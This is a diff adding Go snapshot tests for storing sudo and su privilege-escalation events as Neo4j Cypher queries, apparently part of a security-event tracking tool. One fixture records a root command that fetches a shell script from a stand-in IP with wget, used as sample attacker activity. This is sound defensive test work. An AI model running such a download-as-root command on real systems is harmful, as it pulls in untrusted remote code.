@@ -0,0 +1,46 @@
+package neo4j
+
+import (
+	"testing"
+
+	"github.com/EduardoOliveira/ckc/internal/opt"
+	"github.com/EduardoOliveira/ckc/internal/time_help"
+	"github.com/EduardoOliveira/ckc/types"
+	"github.com/gkampitakis/go-snaps/snaps"
+)
+
+func TestEscalationStoreCypher(t *testing.T) {
+	h := neo4jEscalation{}
+	t.Run("command", func(t *testing.T) {
+		cypher, props := h.storeCypher(types.ParsedEvent{
+			Ingestion:   time_help.Now(),
+			ServiceName: types.SudoService,
+			Hostname:    "localhost",
+			Username:    types.Username{Name: "vagrant"},
+			EscalationEvent: opt.Some(types.EscalationParsedEvent{
+				Kind:    types.EscalationCommand,
+				Tool:    "sudo",
+				ToUser:  "root",
+				Success: true,
+				TTY:     "pts/0",
+				PWD:     "/home/vagrant",
+				Command: "/usr/bin/wget http://203.0.113.7/x.sh",
+			}),
+		})
+		snaps.MatchSnapshot(t, cypher, props)
+	})
+	t.Run("auth failure", func(t *testing.T) {
+		cypher, props := h.storeCypher(types.ParsedEvent{
+			Ingestion:   time_help.Now(),
+			ServiceName: types.SuService,
+			Hostname:    "localhost",
+			Username:    types.Username{Name: "vagrant"},
+			EscalationEvent: opt.Some(types.EscalationParsedEvent{
+				Kind:   types.EscalationAuthFailure,
+				Tool:   "su",
+				ToUser: "root",
+			}),
+		})
+		snaps.MatchSnapshot(t, cypher, props)
+	})
+}